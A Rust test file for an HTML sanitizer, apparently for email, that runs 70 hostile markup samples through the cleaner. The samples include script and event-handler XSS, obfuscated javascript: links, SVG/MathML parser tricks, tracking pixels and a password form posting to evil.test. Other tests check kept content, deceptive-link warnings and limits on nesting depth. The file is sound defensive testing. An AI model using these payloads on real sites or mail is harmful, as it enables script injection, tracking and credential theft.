//! What of hostile HTML is left, looked at tag by tag.

use super::*;

/// What is wrong with cleaned HTML; empty for nothing.
fn faults(clean: &str) -> Vec<String> {
    let mut faults = Vec::new();
    let mut depth = 0_usize;
    for token in Lexer::new(clean) {
        let tag = match token {
            Token::Open(tag) => tag,
            Token::Close(_) => {
                depth = depth.saturating_sub(1);
                continue;
            }
            Token::Text(_) => continue,
        };
        depth += usize::from(!is_void(&tag.name));
        let known = ELEMENTS.contains(&tag.name.as_str()) || MORE.contains(&tag.name.as_str());
        // a table gets its body from the cleaner
        if !known || depth > 2 * DEPTH {
            faults.push(format!("<{}> at {depth}", tag.name));
        }
        for (name, value) in tag.attributes() {
            let good = match (tag.name.as_str(), name.as_str()) {
                ("a", "href") => ["http:", "https:", "mailto:", "tel:"]
                    .iter()
                    .any(|scheme| link::begins(&value, scheme).is_some()),
                ("a", "rel") => value.contains("noopener") && value.contains("noreferrer"),
                ("a", "target") => value == "_blank",
                ("img", "src") => value.starts_with("data:image/") && !value.contains("svg"),
                (_, "style") => !["url", "position", "fixed", "expression", "\\", "import"]
                    .iter()
                    .any(|sign| value.contains(sign)),
                (_, name) => ATTRIBUTES.contains(&name),
            };
            if !good {
                faults.push(format!("{} {name}={value}", tag.name));
            }
        }
    }
    faults
}

/// Each is markup that did harm somewhere: what runs, loads, sends, moves or covers.
const HOSTILE: [&str; 70] = [
    "<script>x()</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<img src=x onerror=x()>",
    "<img/src=x/onerror=x()>",
    "<img src=\"x`><script>x()</script>\"` `>",
    "<img src='https://evil.test/pixel.gif' width=1 height=1>",
    "<img srcset='https://evil.test/p 1x'>",
    "<img src=cid:1@x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>x()</script>'>",
    "<picture><source srcset=https://evil.test/p></picture>",
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<svg><a xlink:href=javascript:x()><text>y</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:x() /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>x()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext>",
    "<math href=javascript:x()>y</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<iframe src=javascript:x()></iframe>",
    "<iframe srcdoc='<p onclick=x()>'></iframe>",
    "<object data=javascript:x()></object>",
    "<embed src=javascript:x()>",
    "<applet code=x></applet>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(//evil.test)}</style>",
    "<style></style><img src=x onerror=x()></style>",
    "<form action=https://evil.test><input name=password><button>Go</button></form>",
    "<button formaction=javascript:x()>y</button>",
    "<input type=image src=https://evil.test/p autofocus onfocus=x()>",
    "<textarea><img src=x onerror=x()></textarea><b>y",
    "<select><option><style></option></select><img src=x onerror=x()></style></select>",
    "<a href=javascript:x()>y</a>",
    "<a href='jav&#x09;ascript:x()'>y</a>",
    "<a href='&#1;javascript:x()'>y</a>",
    "<a href='JaVaScRiPt&colon;x()'>y</a>",
    "<a href=' javascript:x()'>y</a>",
    "<a href=vbscript:x()>y</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>y</a>",
    "<a href=file:///etc/passwd>y</a>",
    "<a href=//evil.test/>y</a>",
    "<a href=x ping=https://evil.test>y</a>",
    "<a href='https://x.test' target=_top onclick=x()>y</a>",
    "<a href='https://x.test' style='position:fixed;inset:0'>y</a>",
    "<div style='background:url(https://evil.test/p)'>y</div>",
    "<div style='background-color:red;background-image:url(//evil.test)'>y</div>",
    "<div style='color:u\\72l(//evil.test)'>y</div>",
    "<div style='width:expression(x())'>y</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>y</div>",
    "<div style='font-family:image-set(\"https://evil.test/p\" 1x)'>y</div>",
    "<div background=https://evil.test/p>y</div>",
    "<body onload=x() background=https://evil.test/p>y</body>",
    "<table background=javascript:x()><tr><td background=//evil.test>y</table>",
    "<video poster=https://evil.test/p><source src=x onerror=x()></video>",
    "<audio src=https://evil.test/p autoplay></audio>",
    "<details open ontoggle=x()><summary>y</summary></details>",
    "<marquee onstart=x()>y</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
    "<noembed><p title='</noembed><img src=x onerror=x()>'>",
    "<xmp><p title='</xmp><img src=x onerror=x()>'>",
    "<template><img src=x onerror=x()></template>",
    "<!--><img src=x onerror=x()>-->",
    "<!--[if gte mso 9]><script>x()</script><![endif]-->",
    "<p title='\"><img src=x onerror=x()>'>y",
    "<?xml version='1.0'?><a:script xmlns:a='http://www.w3.org/1999/xhtml'>x()</a:script>",
];

#[test]
fn nothing_hostile_is_left() {
    let words = "<p>words that stay</p>";
    for html in HOSTILE {
        for around in [
            html.to_owned(),
            format!("{words}{html}"),
            format!("<table><tr><td>{html}</table>{words}"),
            format!("<a href='https://x.test'>{html}{html}"),
        ] {
            let clean = safe(&around);
            assert_eq!(faults(&clean), Vec::<String>::new(), "{around} became {clean}");
        }
        let clean = safe(&format!("{words}{html}"));
        assert!(clean.contains("words that stay"), "{html} became {clean}");
    }
}

/// Pieces of hostile markup in any order are no worse than each of them, and what is clean stays.
#[test]
fn pieces_in_any_order() {
    let mut seed = 0x2545_f491_u32;
    let mut next = |limit: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 17;
        seed ^= seed << 5;
        seed as usize % limit
    };
    let chars: Vec<char> = HOSTILE.concat().chars().collect();
    for _ in 0..1_500 {
        let mut html = String::new();
        for _ in 0..=next(6) {
            let (at, length) = (next(chars.len()), next(60));
            html.extend(chars.iter().skip(at).take(length));
            html.push_str(["", "<", ">", "\"", "'", "</", "<!--", "\0", "&"][next(9)]);
        }
        let clean = safe(&html);
        assert_eq!(faults(&clean), Vec::<String>::new(), "{html:?} became {clean:?}");
    }
}

#[test]
fn what_a_person_reads_stays() {
    for (html, want) in [
        (
            "<table width=600 bgcolor='#fff'><tr><td style='color:red;position:fixed'>A &amp; B",
            "<table width=\"600\" bgcolor=\"#fff\"><tbody><tr><td style=\"color:red\">A &amp; B",
        ),
        ("<a href='https://x.test/?a=1&amp;b=2'>go</a>", "href=\"https://x.test/?a=1&amp;b=2\""),
        ("<a href='mailto:ann@x.test'>Ann</a>", "href=\"mailto:ann@x.test\""),
        ("<img alt=Logo src=https://x.test/l.png>", "<img alt=\"Logo\">"),
        (
            "<img src='data:image/png;base64,iVBORw0KGgo='>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        ),
        ("<p>one<p>two<br>three", "<p>one</p><p>two<br>three</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<blockquote>q</blockquote><pre>a\n b</pre>", "<pre>a\n b</pre>"),
        ("1 < 2 &lt;b&gt;", "1 &lt; 2 &lt;b&gt;"),
        ("<b><i>x</b>y", "<b><i>x</i></b>y"),
        ("<o:p>kept</o:p><custom>too</custom>", "kepttoo"),
    ] {
        let clean = safe(html);
        assert!(clean.contains(want), "{html} became {clean}");
    }
}

#[test]
fn a_link_says_where_else_it_leads() {
    for (html, want) in [
        ("<a href='https://evil.test/x'>www.bank.test</a>", "</a> (! leads to evil.test)"),
        ("<a href='https://evil.test/'>https://bank.test/login</a>", "(! leads to evil.test)"),
        ("<a href='https://evil.test/'><b>bank</b><i>.test</i></a>", "(! leads to evil.test)"),
        ("<a href='mailto:x@evil.test'>help@bank.test</a>", "(! leads to x@evil.test)"),
    ] {
        let clean = safe(html);
        assert!(clean.contains(want), "{html} became {clean}");
    }
    assert!(!safe("<a href='https://www.bank.test/a'>bank.test</a>").contains("leads"));
}

/// Nesting, what is never closed, and copies of it: the tree stays as small as the mail.
#[test]
fn depth_and_copies_are_bounded() {
    for (html, words) in [
        (format!("{}deep", "<div>".repeat(100_000)), "deep"),
        (format!("{}deep{}", "<b><i>".repeat(50_000), "</i></b>".repeat(50_000)), "deep"),
        (
            format!(
                "<p>{}</p>{}end",
                "<font size=1><font size=2>".repeat(200),
                "<p>".repeat(20_000)
            ),
            "end",
        ),
        (format!("{}end", "<table><tr><td>".repeat(30_000)), "end"),
        (format!("{}end", "<a href=https://x.test>".repeat(30_000)), "end"),
        (format!("{}end", "</p></div>".repeat(50_000)), "end"),
        (format!("{}end", "<ul><li>".repeat(30_000)), "end"),
        (format!("x{}", "<p a=b c=d e='".repeat(30_000)), "x"),
        (format!("x{}", "&".repeat(100_000)), "x"),
        (format!("x<p title='{}'>", "&".repeat(100_000)), "x"),
        (format!("x{}", "<!--".repeat(50_000)), "x"),
    ] {
        let clean = safe(&html);
        let start = html.get(..40).unwrap_or_default();
        assert!(clean.contains(words), "{start}");
        assert!(clean.len() < 8 * html.len() + 100_000, "{start}: {} bytes", clean.len());
        assert_eq!(faults(&clean).first(), None, "{start}");
    }
    let long = format!("start{}end", "<i>x</i>".repeat(1 << 20));
    let clean = safe(&long);
    assert!(clean.contains("start") && !clean.contains("end") && clean.len() <= REBUILT + INPUT);
}
